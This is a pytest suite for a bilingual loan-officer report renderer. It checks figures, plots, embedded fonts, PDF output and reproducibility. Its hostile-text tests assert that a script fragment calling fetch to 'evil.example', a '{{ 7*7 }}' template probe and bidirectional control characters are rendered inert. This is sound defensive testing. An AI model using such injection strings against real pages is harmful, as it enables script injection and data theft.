"""The officer's report: what it shows, that nothing hostile gets out of its texts, and that it is the same again."""

from __future__ import annotations

import base64
import hashlib
import io
import os
import re
import string
import subprocess
import sys
import unicodedata
from dataclasses import replace
from functools import lru_cache
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pypdf
import pytest
from fontTools.ttLib import TTFont
from reportkit import (
    CUSTOMERS,
    DECIDED_MS,
    HOSTILE,
    MONTHS,
    sample_decision,
    sample_facts,
    sample_notes,
)

from taxledger.ledger.errors import FormatError
from taxledger.ledger.kinds import KINDS
from taxledger.lending.decision import Decision
from taxledger.lending.facts import Facts
from taxledger.lending.report import LANGUAGES, Language, make_portrait, render_html, render_pdf
from taxledger.lending.report.blocks import Label, Line, Plot, Portrait, Rect
from taxledger.lending.report.figures import money, share, show_value, steps
from taxledger.lending.report.fonts import FONT_VARIABLE, find_font
from taxledger.lending.report.plain import plain
from taxledger.lending.report.plots import gauge
from taxledger.lending.report.texts import TEXTS


@lru_cache
def the_facts() -> Facts:
    return sample_facts()


def portrait_of(
    language: Language = "zh", facts: Facts | None = None, decision: Decision | None = None
) -> Portrait:
    return make_portrait(
        facts or the_facts(),
        sample_notes(),
        decision or sample_decision(),
        language=language,
        product_title="发票贷" if language == "zh" else "Invoice loan",
    )


@pytest.fixture(scope="module")
def page() -> str:
    return render_html(portrait_of()).decode()


@pytest.fixture(scope="module")
def hostile() -> Portrait:
    decision = replace(sample_decision(text=HOSTILE[0] + HOSTILE[4]), grade=HOSTILE[1])
    return portrait_of("en", sample_facts(HOSTILE), decision)


class Reader(HTMLParser):
    """Every tag with its attributes, and all text outside of the style sheet."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self._style = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._style = False

    def handle_data(self, data: str) -> None:
        if not self._style:
            self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(self.words)


# --- what it shows --------------------------------------------------------------------------


def test_key_figures(page: str) -> None:
    text = Reader(page).text
    for expected in (
        "杭州示范精密机械有限公司",
        "转人工审核",
        "1,234,000.00 CNY",
        "5.20 %",
        "12 个月",
        "红字金额占比超过5%",
        "不高于 90 天",
        "98,765,432.10",
        "仅至 2025-05-31",
        sample_notes()[0].digest.hex(),
        sample_notes()[1].consent.hex(),
        "2025-06-20 07:00:00",
    ):
        assert expected in text, expected


def test_english_says_the_same() -> None:
    text = Reader(render_html(portrait_of("en")).decode()).text
    for expected in ("Refer to an officer", "1,234,000.00 CNY", "at most 90 days", "only to 2025-05-31"):
        assert expected in text, expected
    headings = "".join(
        section.title for language in LANGUAGES for section in portrait_of(language).sections[1:]
    )
    assert "Rules and verdicts" in headings
    assert "规则与结论" in headings


def test_both_languages_have_every_text() -> None:
    for key, (english, chinese) in TEXTS.items():
        names = [
            {name for _text, name, _spec, _conversion in string.Formatter().parse(each) if name}
            for each in (english, chinese)
        ]
        assert names[0] == names[1], key
        assert english, key
        assert chinese, key
    for kind in KINDS:
        assert f"kind_{kind}" in TEXTS


def _plots(portrait: Portrait, title: str) -> list[Plot]:
    section = next(each for each in portrait.sections if each.title == title)
    return [each for each in section.blocks if isinstance(each, Plot)]


def test_columns_show_the_sums_of_the_records() -> None:
    facts = sample_facts()
    expected = {}
    for month in MONTHS[-24:]:
        sold = [
            each.fields["net"]
            for each in facts.counted(KINDS["vat_invoice"])
            if each.fields["direction"] == "sale"
            and str(each.fields["date"])[:7] == month
            and str(each.fields["date"]) <= "2025-06-20"
        ]
        expected[month] = sum(int(net) for net in sold if int(net or 0) > 0)  # type: ignore[arg-type]
    (plot,) = _plots(portrait_of("en", facts), "Sales and purchases by month")
    shown = {
        each.title[:7]: each.title.split(": ")[1]
        for each in plot.marks
        if isinstance(each, Rect) and " sales: " in each.title
    }
    assert shown == {month: money(net, "CNY") for month, net in expected.items() if net}
    heights = {
        each.title[:7]: each.height
        for each in plot.marks
        if isinstance(each, Rect) and " sales: " in each.title
    }
    largest = max(expected, key=lambda month: expected[month])
    for month, net in expected.items():
        assert abs(heights[month] - heights[largest] * net // expected[largest]) <= 2


def test_months_that_are_not_attested_are_marked() -> None:
    (plot,) = _plots(portrait_of("en"), "Sales and purchases by month")
    assert [each.title for each in plot.marks if isinstance(each, Rect) and each.tone == "veil"] == [
        "not attested yet"
    ]


@pytest.mark.parametrize("language", LANGUAGES)
def test_labels_of_an_axis_do_not_overlap(language: Language) -> None:
    for section in portrait_of(language).sections:
        for plot in (each for each in section.blocks if isinstance(each, Plot)):
            ends: dict[int, int] = {}
            labels = [each for each in plot.marks if isinstance(each, Label) and each.anchor == "middle"]
            for label in sorted(labels, key=lambda each: (each.y, each.x)):
                half = len(label.text) * label.size * 57 // 200
                assert label.x - half >= ends.get(label.y, 0), (section.title, label)
                ends[label.y] = label.x + half
            for mark in plot.marks:
                if isinstance(mark, Rect):
                    assert 0 <= mark.x <= mark.x + mark.width <= plot.width
                    assert 0 <= mark.y <= mark.y + mark.height <= plot.height


def test_a_proved_absence_is_no_missing_answer() -> None:
    facts = sample_facts()
    records = {**facts.records, KINDS["tax_arrears"]: ()}
    shown = portrait_of("en", Facts(subject=facts.subject, records=records, coverage=facts.coverage))
    section = next(each for each in shown.sections if each.title.startswith("Arrears"))
    assert "the issuer says that there are none through 2025-06-20" in str(section.blocks[0])


def test_nothing_verified() -> None:
    decision = replace(
        sample_decision("incomplete"),
        rules=(),
        features=(),
        grade=None,
        score=None,
        rate_ppm=None,
        evidence=(),
    )
    empty = make_portrait(Facts(subject=decision.subject), (), decision, language="zh")
    text = Reader(render_html(empty).decode()).text
    assert "证据不完整" in text
    assert "没有通过核验的证据" in text
    assert render_pdf(empty, DECIDED_MS).startswith(b"%PDF-")


@pytest.mark.parametrize(
    ("value", "thresholds", "bar", "lines"),
    [
        (2, (2,), (0, 80), [80]),
        (1, (2,), (0, 40), [80]),
        (0, (0,), (0, 3), [0]),
        (1_000_000, (500_000,), (0, 80), [40]),
        (-50, (50,), (10, 40), [90]),
        (3, (5, 4), (0, 48), [80, 64]),
    ],
)
def test_gauges(value: int, thresholds: tuple[int, ...], bar: tuple[int, int], lines: list[int]) -> None:
    """A hundred wide: (where the bar begins, how long it is), where the thresholds stand."""
    marks = gauge(value, thresholds, "good", summary="", width=100).marks
    drawn = next(each for each in marks if isinstance(each, Rect) and each.tone == "good")
    assert (drawn.x, drawn.width) == bar
    assert [each.x1 for each in marks if isinstance(each, Line)] == lines


# --- the same again -------------------------------------------------------------------------


_AGAIN = """
import sys, hashlib
sys.path.insert(0, sys.argv[1])
from test_report import portrait_of
from taxledger.lending.report import render_html, render_pdf
print(hashlib.sha256(render_html(portrait_of())).hexdigest(), hashlib.sha256(render_pdf(portrait_of(), 0)).hexdigest())
"""


def test_another_process_makes_the_same_bytes(page: str) -> None:
    environment = {**os.environ, "PYTHONHASHSEED": "77", "TZ": "Asia/Shanghai", "LC_ALL": "C"}
    run = subprocess.run(
        [sys.executable, "-c", _AGAIN, str(Path(__file__).parent)],
        env=environment,
        capture_output=True,
        text=True,
        check=True,
    )
    expected = [page.encode(), render_pdf(portrait_of(), 0)]
    assert run.stdout.split()[-2:] == [hashlib.sha256(each).hexdigest() for each in expected]


# --- hostile texts --------------------------------------------------------------------------


_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "main", "header", "div", "p", "h1", "h2", "ul", "li"),
    *("section", "dl", "dt", "dd", "table", "colgroup", "col", "thead", "tbody", "tr", "th", "td", "footer"),
    *("svg", "rect", "line", "text"),
}


def test_no_text_becomes_markup(hostile: Portrait) -> None:
    page = render_html(hostile).decode()
    found = Reader(page)
    assert {tag for tag, _attributes in found.tags} <= _TAGS
    for tag, attributes in found.tags:
        assert not [
            each for each in attributes if each.startswith("on") or each in ("src", "href", "style")
        ], tag
    assert page.count("<style>") == page.count("</style>") == 1
    assert "<script>fetch('https://evil.example/'" in found.text
    assert "{{ 7*7 }}" in found.text


def test_no_character_hides_or_moves_text(hostile: Portrait) -> None:
    page = render_html(hostile).decode()
    bad = {each for each in page if unicodedata.category(each) in ("Cf", "Cs", "Co", "Zl", "Zp")}
    bad |= {each for each in page if unicodedata.category(each) == "Cc" and each != "\n"}
    assert not bad
    assert "[U+202E]" in page


def test_pdf_of_hostile_texts(hostile: Portrait) -> None:
    data = render_pdf(hostile, DECIDED_MS)
    document = pypdf.PdfReader(io.BytesIO(data))
    assert not document.trailer["/Root"].get("/Names")
    assert document.trailer["/Root"]["/OpenAction"][1] == "/FitH"  # a view of the first page, no action
    for name in (b"/JavaScript", b"/URI", b"/Launch", b"/EmbeddedFile"):
        assert name not in data
    text = re.sub(r"\s", "", "".join(each.extract_text() for each in document.pages))
    assert "<script>fetch(" in text
    assert "[U+202E]" in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain 文字 é", "plain 文字 é"),
        ("a\u202eb\x00\x1b[0m\n", "a[U+202E]b[U+0000][U+001B][0m[U+000A]"),
        ("e\u0301\u0302\u0303", "e\u0301\u0302[U+0303]"),
        ("\ud800\ue000\u2028\u00a0", "[U+D800][U+E000][U+2028] "),
        ("x" * 200, "x" * 159 + "…"),
        (None, "None"),
    ],
)
def test_plain(text: object, expected: str) -> None:
    assert plain(text) == expected


# --- no request, fonts inside ---------------------------------------------------------------


def test_the_policy_forbids_every_request(page: str) -> None:
    metas = [attributes for tag, attributes in Reader(page).tags if tag == "meta"]
    policy = next(each["content"] for each in metas if each.get("http-equiv") == "Content-Security-Policy")
    style = page[page.index("<style>") + 7 : page.index("</style>")]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy == (
        f"default-src 'none'; style-src 'sha256-{digest}'; font-src data:; base-uri 'none'; form-action 'none'"
    )
    assert re.findall(r"url\((?!data:)", page) == []
    assert "http://" not in page
    assert "https://" not in page


def test_the_page_carries_every_character_that_it_shows(page: str) -> None:
    found = re.search(r"data:font/woff2;base64,([A-Za-z0-9+/=]+)\)", page)
    assert found is not None
    font = TTFont(io.BytesIO(base64.b64decode(found[1], validate=True)))
    assert font.flavor == "woff2"
    shown = {ord(each) for each in Reader(page).text if not each.isspace()}
    assert shown - set(font.getBestCmap()) == set()


def test_chinese_is_read_back_from_the_pdf() -> None:
    document = pypdf.PdfReader(io.BytesIO(render_pdf(portrait_of(), DECIDED_MS)))
    text = re.sub(r"\s", "", "".join(each.extract_text() for each in document.pages))
    for expected in (
        "企业授信报告",
        "杭州示范精密机械有限公司",
        "转人工审核",
        "近24个月销项发票最长间隔不超过90天",
        "主要客户",
        CUSTOMERS[0],
        "1,234,000.00CNY",
        "各类记录的完整性",
        sample_notes()[1].digest.hex(),
    ):
        assert expected in text, expected
    assert "[U+" not in text
    fonts = [font.get_object() for each in document.pages for font in each["/Resources"]["/Font"].values()]
    assert fonts
    for font in fonts:
        (below,) = font["/DescendantFonts"]
        descriptor = below.get_object()["/FontDescriptor"].get_object()
        assert {"/FontFile2", "/FontFile3"} & set(descriptor)
        assert "NotoSansSC" in descriptor["/FontName"]
    assert document.metadata is not None
    assert document.metadata.title == "企业授信报告 · 杭州示范精密机械有限公司"


def test_no_font(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv(FONT_VARIABLE, str(tmp_path / "missing.otf"))
    with pytest.raises(FormatError, match=r"TAXLEDGER_FONT: expected an \.otf or \.ttf file"):
        find_font()
    wrong = tmp_path / "wrong.otf"
    wrong.write_bytes(b"no font")
    with pytest.raises(FormatError, match="expected an OpenType font"):
        render_html(portrait_of(), wrong)
    monkeypatch.delenv(FONT_VARIABLE)
    monkeypatch.setattr("taxledger.lending.report.fonts._PACKAGE", "there_is_no_such_package")
    with pytest.raises(FormatError, match=r"install taxledger\[lending\]"):
        find_font()


# --- numbers --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("amount", "currency", "expected"),
    [
        (0, "CNY", "0.00"),
        (-5, "CNY", "−0.05"),
        (123_456_789, "CNY", "1,234,567.89"),
        (-1_234, "JPY", "−1,234"),
        (1_234_567, "KWD", "1,234.567"),
    ],
)
def test_money(amount: int, currency: str, expected: str) -> None:
    assert money(amount, currency) == expected


def test_values() -> None:
    assert share(-333_334) == "−33.33 %"
    assert share(12_345) == "1.23 %"
    assert show_value(None, "money", "CNY", "en") == "–"
    assert show_value(1, "flag", "CNY", "zh") == "是"
    assert show_value(4, "grade", "CNY", "en") == "B"
    assert show_value(1_234, "days", "CNY", "zh") == "1,234 天"


def test_steps_hold_what_is_drawn() -> None:
    for low in (0, -1, -7, -99, -12_345):
        for high in (0, 1, 3, 10, 99, 101, 123_456_789):
            found = steps(low, high)
            assert found[0] <= low
            assert found[-1] >= high
            assert 0 in found
            assert 2 <= len(found) <= 8
            assert len({after - before for before, after in pairwise(found)}) == 1
